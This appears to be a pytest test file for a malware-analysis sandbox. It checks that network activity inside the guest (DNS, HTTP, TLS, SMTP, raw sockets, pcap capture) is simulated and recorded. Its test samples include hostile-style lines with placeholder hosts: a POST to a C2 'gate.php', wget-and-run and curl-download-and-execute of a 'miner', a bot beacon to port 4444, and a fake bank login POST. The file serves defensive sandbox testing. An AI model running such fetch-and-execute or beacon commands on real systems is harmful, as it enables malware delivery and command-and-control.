"""What goes over the network: nothing leaves the guest, all of it is answered and written down."""

from __future__ import annotations

import pytest

from lazaretto.domain.trace import Ending

pytestmark = pytest.mark.machine("linux")


def test_web_request(linux, programs):
    script = "curl -s -A tester/1 -d 'id=7&host=x' http://c2.example.net:8080/gate.php?a=1 > /tmp/answer"
    observed = linux(programs.file("web.sh", script), "sh")
    assert observed.order("process.start", "net.dns", "net.connect", "net.http", "process.exit"), observed.story()
    dns = observed.one("net.dns", name="c2.example.net", type="A")
    connect = observed.one("net.connect", protocol="tcp")
    http = observed.one("net.http")
    assert (connect.address, connect.port, connect.host) == (dns.answers[0], 8080, "c2.example.net")
    assert (http.method, http.url) == ("POST", "http://c2.example.net:8080/gate.php?a=1")
    assert (http.body, http.headers["User-Agent"], http.status) == (b"id=7&host=x", "tester/1", 200)
    assert observed.process("curl").key == http.process == dns.process
    assert observed.dropped("/tmp/answer")
    # the name server is the machine's own business
    assert not observed.events("net.connect", port=53)


def test_encrypted_request_is_read(linux, programs):
    source = """
import urllib.request
request = urllib.request.Request("https://bank.example.com/login", b"user=anna&password=geheim", {"X-Id": "42"})
print(urllib.request.urlopen(request).status)
"""
    observed = linux(programs.file("tls.py", source), "python")
    http = observed.one("net.http", tls=True)
    assert (http.url, http.body) == ("https://bank.example.com/login", b"user=anna&password=geheim")
    assert "42" in http.headers.values()
    assert observed.console == "200\n"


def test_downloaded_script_is_recognised_when_it_runs(linux, programs):
    observed = linux(programs.file("get.sh", "wget -q http://cdn.example.org/x.sh -O /tmp/x.sh && sh /tmp/x.sh"), "sh")
    recorder = observed.one("recorder")
    assert (recorder.url, recorder.path) == ("http://cdn.example.org/x.sh", "/tmp/x.sh")
    assert observed.one("net.http").served == "script"
    assert recorder.because


def test_downloaded_program_is_recognised_when_it_runs(linux, programs):
    script = "cd /tmp && curl -s http://cdn.example.org/miner -o m && chmod +x m && ./m"
    observed = linux(programs.file("get.sh", script), "sh")
    assert observed.one("recorder").path == "/tmp/m", observed.story()
    assert observed.one("net.http").served == "program"


def test_mail(linux, programs):
    source = """
import smtplib
from email.message import EmailMessage
mail = EmailMessage()
mail["From"], mail["To"], mail["Subject"] = "a@example.com", "b@example.org", "Invoice 7"
mail.set_content("Please pay at once.")
with smtplib.SMTP("mail.example.com", 25) as server:
    server.send_message(mail)
"""
    mail = linux(programs.file("mail.py", source), "python").one("net.smtp")
    assert (mail.sender, mail.recipients, mail.subject) == ("a@example.com", ("b@example.org",), "Invoice 7")
    assert b"Please pay at once." in mail.head


def test_bare_connections(linux, programs):
    source = """
import socket
tcp = socket.create_connection(("198.51.100.7", 4444))
tcp.sendall(b"HELLO bot-7\\n")
tcp.settimeout(5)
try:
    tcp.recv(100)
except TimeoutError:
    pass
tcp.close()
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.sendto(b"beacon", ("203.0.113.9", 9999))
"""
    observed = linux(programs.file("bare.py", source), "python")
    assert observed.one("net.connect", protocol="tcp", address="198.51.100.7", port=4444)
    assert observed.one("net.data", address="198.51.100.7").head.startswith(b"HELLO bot-7")
    assert observed.one("net.connect", protocol="udp", address="203.0.113.9", port=9999)
    assert observed.one("net.data", protocol="udp").head == b"beacon"


def test_listens_and_raw(linux, programs):
    source = """
import socket
server = socket.socket(); server.bind(("0.0.0.0", 31337)); server.listen()
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
packet = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x300)
"""
    observed = linux(programs.file("listen.py", source), "python")
    listen = observed.one("net.listen")
    assert (listen.protocol, listen.address, listen.port) == ("tcp", "0.0.0.0", 31337)
    assert [(event.family, event.type) for event in observed.events("net.raw")] == [("inet", "raw"), ("packet", "raw")]


def test_packets_are_brought_home(linux, programs):
    observed = linux(programs.file("ping.sh", "curl -s http://only.example.com/marker-of-this-test >/dev/null"), "sh")
    (pcap,) = observed.artifacts("pcap")
    content = observed.content(pcap)
    assert content[:4] in (b"\xd4\xc3\xb2\xa1", b"\x4d\x3c\xb2\xa1")
    assert b"GET /marker-of-this-test" in content


def test_name_that_does_not_exist_and_a_dead_address(linux, programs):
    """An internet in which everything answers would be recognised by that."""
    script = "getent hosts qx7-not-there.invalid || echo no such name; ip route get 8.8.8.8 | head -1"
    observed = linux(programs.file("dead.sh", script), "sh")
    assert observed.ending is Ending.EXITED
    assert "no such name" in observed.console
    assert "via 192.168.178.1 dev eth0" in observed.console
    assert not observed.one("net.dns", name="qx7-not-there.invalid").ok
